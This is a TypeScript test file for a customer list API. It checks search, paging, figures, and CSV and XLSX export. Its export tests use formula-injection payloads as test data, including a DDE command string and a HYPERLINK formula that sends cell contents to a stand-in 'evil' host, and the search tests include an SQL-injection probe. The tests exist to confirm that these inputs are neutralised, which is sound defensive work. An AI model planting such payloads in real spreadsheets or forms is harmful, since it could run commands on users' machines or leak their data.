// The list of customers, its figures, and the same list as a file to take away.
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectFields } from '#tests/support/problems.ts';
import { idOf, openTeam } from '#tests/support/team.ts';
import type { Team } from '#tests/support/team.ts';
import type { Got } from '#tests/support/server.ts';
import { newCustomer, newInvoice } from '../trade/requests.ts';
import { bytesOf, cellsOf } from './sheets.ts';

const BOOK = 'Deccan "Mills"; ../ श्री';

let team: Team;
let bookId: number;
let query: { book_id: number };
beforeAll(async () => {
  team = await openTeam();
  bookId = idOf(await team.owner('createBook', { body: { name: BOOK } }));
  query = { book_id: bookId };
  for (const body of [
    { name: 'Lakshmi Stores', city: 'Pune', phone: '+91 98220 00001' },
    { name: 'Karnataka Agro', company: 'KA Mills', gst_number: '29AAACK1234F1ZW' },
    { name: 'Arun Traders', email: 'arun@traders.example' },
  ]) {
    await newCustomer(team, { ...body, book_id: bookId });
  }
});
afterAll(() => team.close());

const namesOf = ({ body }: Got): string[] => (body as { name: string }[]).map(({ name }) => name);
const list = (more: Record<string, string | number> = {}) =>
  team.owner('listCustomers', { query: { ...query, ...more } });
const exported = (more: Record<string, string> = {}) =>
  team.owner('exportCustomers', { query: { ...query, ...more } });

describe('the list of customers', () => {
  it('is by name', async () => {
    expect(namesOf(await list())).toStrictEqual([
      'Arun Traders',
      'Karnataka Agro',
      'Lakshmi Stores',
    ]);
  });

  it.each([
    ['lakshmi', ['Lakshmi Stores']],
    ['ka mills', ['Karnataka Agro']],
    ['AGRO 29aaack', ['Karnataka Agro']],
    ['traders.example', ['Arun Traders']],
    ['98220', ['Lakshmi Stores']],
    ['%', []],
    ['_', []],
    ["' or 1=1", []],
    ['   ', ['Arun Traders', 'Karnataka Agro', 'Lakshmi Stores']],
  ])('is searched for %j', async (search, names) => {
    expect(namesOf(await list({ search }))).toStrictEqual(names);
  });

  it('is narrowed to active or inactive ones, and counted', async () => {
    const customerId = await newCustomer(team, { name: 'Zafar', book_id: bookId });
    await team.owner('deactivateCustomer', { params: { customerId }, query, body: {} });
    expect(namesOf(await list({ status: 'inactive' }))).toStrictEqual(['Zafar']);
    expect(namesOf(await list({ status: 'active' }))).not.toContain('Zafar');
    const of = { ...query, status: 'inactive', search: 'zaf' };
    const { body } = await team.owner('readCustomerFigures', { query: of });
    const sums = { orders: 0, revenue: '0.00', outstanding: '0.00', overdue: '0.00' };
    const found = { count: 1, ...sums, by_status: { active: 0, inactive: 1 } };
    const outstanding = { customers: '0.00', others: '0.00', total: '0.00' };
    expect(body).toStrictEqual({ total: 4, active: 3, revenue: '0.00', outstanding, found });
  });

  it('comes in pages, each telling where the next one is', async () => {
    const first = await list({ limit: 2 });
    expect(namesOf(first)).toStrictEqual(['Arun Traders', 'Karnataka Agro']);
    const link = /<[^?]*\?([^>]*)>; rel="next"/.exec(first.headers.get('Link') ?? '')?.[1];
    const next = Object.fromEntries(new URLSearchParams(link));
    const second = await team.owner('listCustomers', { query: next });
    expect(namesOf(second)).toStrictEqual(['Lakshmi Stores', 'Zafar']);
    expect(second.headers.get('Link')).toBeNull();
  });

  it('tells orders and revenue of what was issued', async () => {
    const customerId = await newCustomer(team, { name: 'Faithful' });
    await newInvoice(team, { customer_id: customerId });
    const { body } = await team.owner('readCustomer', { params: { customerId } });
    expect(body).toMatchObject({ total_orders: 1, total_amount: '200.00' });
    const figures = await team.owner('readCustomerFigures');
    expect(figures.body).toMatchObject({ revenue: '200.00' });
  });

  it('is any stretch of the whole list in each of its orders', async () => {
    for (const order of ['name', 'orders', 'revenue', 'added', 'outstanding', 'overdue']) {
      const up = namesOf(await list({ order, offset: 0 }));
      expect(namesOf(await list({ order, offset: 1, limit: 2 }))).toStrictEqual(up.slice(1, 3));
      expect(namesOf(await list({ order: `-${order}` })).toSorted()).toStrictEqual(up.toSorted());
    }
  });

  it.each([
    [{ limit: 0 }, ['limit']],
    [{ limit: 201 }, ['limit']],
    [{ status: 'gone' }, ['status']],
    [{ search: 'x'.repeat(201) }, ['search']],
    [{ after: '-1' }, ['after']],
    [{ after: 1, order: 'revenue' }, ['after']],
    [{ after: 1, order: '-outstanding' }, ['after']],
    [{ after: 1, offset: 2 }, ['after']],
    [{ order: 'colour', offset: -1 }, ['order', 'offset']],
    [{ colour: 'red' }, ['colour']],
  ])('is not asked for by %j', async (more, fields) => {
    expectFields(await list(more as Record<string, string>), fields);
  });
});

describe('the customers as CSV', () => {
  it('come with the headers of a file that nobody guesses at (E52, E54)', async () => {
    const got = await exported();
    expect(got.status).toBe(200);
    expect(got.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(got.headers.get('X-Content-Type-Options')).toBe('nosniff');
    expect(got.headers.get('Cache-Control')).toBe('no-store');
    expect(got.headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="Customers Deccan Mills \.\. \d{4}-\d\d-\d\d\.csv"; filename\*=UTF-8''Customers%20Deccan%20Mills%20\.\.%20%E0[%\w.-]+\.csv$/,
    );
    expect(bytesOf(got).subarray(0, 3)).toStrictEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('have a head and a row for each, narrowed as the list is', async () => {
    const [head, ...rows] = cellsOf(await exported());
    expect(head?.slice(0, 3)).toStrictEqual(['Customer', 'Company', 'GSTIN']);
    expect(rows.map(([name]) => name)).toStrictEqual(namesOf(await list()));
    const [, ...found] = cellsOf(await exported({ search: 'agro', status: 'active' }));
    expect(found).toHaveLength(1);
    expect(found[0]).toStrictEqual([
      'Karnataka Agro',
      'KA Mills',
      '29AAACK1234F1ZW',
      'AAACK1234F',
      'regular',
      ...Array<string>(5).fill(''),
      'Karnataka',
      '29',
      '',
      'IN',
      '',
      '0',
      '0.00',
      '0.00',
      '0.00',
      'active',
      expect.stringMatching(/Z$/),
      expect.stringMatching(/^\d+$/),
    ]);
  });

  it.each([
    ["+cmd|' /C calc'!A0", 'E42'],
    ['@SUM(1+1)', 'E44'],
    ['=HYPERLINK("http://evil?x="&A1,"x")', 'E46'],
    ['＝1+1', 'E48'],
    ['  =1+1', 'E48'],
    ['“=1+1', 'E48'],
    ['-2+3', 'E42'],
  ])('show %s as text (%s)', async (company) => {
    const name = `Cell ${company.length}${company.codePointAt(0)}`;
    await newCustomer(team, { name, company, book_id: bookId });
    const [, row] = cellsOf(await exported({ search: name }));
    expect(row?.[1]).toBe(`'${company.trim()}`);
  });

  it('quote what RFC 4180 has quoted: rows are as many as customers (E50)', async () => {
    const address = 'Shop 1, "Nana Peth"\nPune';
    await newCustomer(team, { name: 'Quoted', address, book_id: bookId });
    const rows = cellsOf(await exported());
    const all = await list({ limit: 200 });
    expect(rows).toHaveLength(namesOf(all).length + 1);
    expect(rows.find(([name]) => name === 'Quoted')?.[8]).toBe(address);
  });

  it('are for members, in a format that there is', async () => {
    expectFields(await exported({ format: 'pdf' }), ['format']);
    expect((await team.stranger('exportCustomers', { query })).status).toBe(404);
    expect((await team.nobody('exportCustomers', { query })).status).toBe(401);
  });
});

describe('the customers as XLSX', () => {
  it('are a workbook whose texts are texts and whose amounts are numbers', async () => {
    const company = '=1+1 _x0041_ & <b>';
    await newCustomer(team, { name: 'In a workbook', company, book_id: bookId });
    const got = await exported({ format: 'xlsx', search: 'workbook' });
    expect(got.headers.get('Content-Type')).toContain('spreadsheetml.sheet');
    expect(got.headers.get('Content-Disposition')).toContain('.xlsx"');
    const files = unzipSync(new Uint8Array(bytesOf(got)));
    const text = (name: string): string => strFromU8(files[name] ?? new Uint8Array());
    expect(text('xl/sharedStrings.xml')).toContain('=1+1 _x005F_x0041_ &amp; &lt;b&gt;');
    expect(text('xl/worksheets/sheet1.xml')).not.toContain('<f>');
    expect(text('xl/worksheets/sheet1.xml').match(/<row /g)).toHaveLength(2);
  });
});
